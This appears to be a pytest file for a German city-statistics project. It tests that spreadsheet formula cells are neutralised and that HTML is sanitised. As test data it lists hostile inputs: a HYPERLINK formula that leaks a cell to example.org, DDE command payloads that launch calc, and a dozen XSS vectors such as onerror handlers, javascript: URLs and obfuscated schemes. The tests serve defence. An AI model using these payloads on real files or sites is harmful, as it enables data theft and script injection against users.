"""Hostile text in spreadsheets and HTML: formula cells neutralised, markup sanitised."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from bielefeld_integration.safe_text import (
    neutralise_cell,
    neutralise_frame,
    neutralise_rows,
    sanitize_html,
)

FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
#: what each becomes (a carriage return becomes a line break, which CSV writers quote)
SAFE = ["'" + f.replace("\r", "\n") for f in FORMULAS]


@pytest.mark.parametrize(("text", "safe"), list(zip(FORMULAS, SAFE, strict=True)))
def test_formula_text_gets_an_apostrophe(text, safe):
    assert neutralise_cell(text) == safe


@pytest.mark.parametrize(
    "value", [12, -3.5, 0, "-3,5", "+12", "-1.234", "-", "+", "Mitte", "", None]
)
def test_numbers_and_plain_text_stay(value):
    assert neutralise_cell(value) == value


def test_frame_keeps_numbers_numbers_and_neutralises_text_and_headers():
    df = pd.DataFrame({"=Titel": FORMULAS, "n": range(len(FORMULAS))})
    out = neutralise_frame(df)
    assert list(out.columns) == ["'=Titel", "n"]
    assert out["n"].dtype == df["n"].dtype
    assert all(v.startswith("'") for v in out["'=Titel"])
    assert df.columns[0] == "=Titel"  # the input is not changed


def test_categorical_and_rows():
    df = pd.DataFrame({"c": pd.Categorical(["=1+1", "a"])})
    assert list(neutralise_frame(df)["c"]) == ["'=1+1", "a"]
    assert neutralise_rows([["=1", 2]]) == [["'=1", 2]]


def test_no_formula_cell_in_an_xlsx_written_from_a_neutralised_frame(tmp_path):
    path = tmp_path / "a.xlsx"
    neutralise_frame(pd.DataFrame({"t": FORMULAS, "n": range(7)})).to_excel(path, index=False)
    wb = openpyxl.load_workbook(path)
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.column == 2][1:] == list(range(7))


def test_csv_written_from_a_neutralised_frame_has_no_cell_starting_with_a_formula_sign():
    buf = io.StringIO()
    neutralise_frame(pd.DataFrame({"t": FORMULAS})).to_csv(buf, sep=";", index=False)
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline=""), delimiter=";"))[1:]
    assert len(rows) == len(FORMULAS)
    for (cell,) in rows:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert all(not part.startswith(("=", "+", "@")) for part in cell.split("\r"))


HOSTILE = [
    '<img src="x" onerror="alert(1)">',
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">Klick</a>',
    '<a href="JaVaScRiPt:alert(1)">Klick</a>',
    '<a href="java&#09;script:alert(1)">Klick</a>',
    '<a href="data:text/html,<script>alert(1)</script>">Klick</a>',
    "<svg onload=alert(1)>",
    "<iframe src=x></iframe>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<details open ontoggle="alert(1)">x</details>',
    "<body onload=alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_sanitize_removes_script_handlers_and_javascript_urls(html):
    out = sanitize_html(f"<p>Ausländeranteil {html}</p>").lower()
    assert "<script" not in out and "<iframe" not in out and "<svg" not in out
    assert "onerror=" not in out.replace("&lt;", "") or "<img" not in out
    assert " on" not in out.split(">", 1)[0]
    for tag in ("<a ", "<img ", "<div ", "<details "):
        for piece in out.split(tag)[1:]:
            attrs = piece.split(">", 1)[0]
            assert "javascript" not in attrs and "on" not in attrs.split("=")[0]
            assert "data:text" not in attrs and "svg" not in attrs and "style" not in attrs


def test_sanitize_keeps_what_a_report_page_uses():
    html = (
        '<h2 id="bevoelkerung">Bevölkerung<a class="anchor-link" href="#bevoelkerung">¶</a>'
        '</h2><p><strong>fett</strong> <em>kursiv</em> <a href="https://www.bielefeld.de">'
        'Stadt</a> <a href="../2017/index.html">2017</a></p><ul><li>a</li></ul>'
        '<table><thead><tr><th scope="col" colspan="2">x</th></tr></thead>'
        "<tbody><tr><td>1</td><td>2</td></tr></tbody></table>"
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="Grafik">'
    )
    assert sanitize_html(html) == html
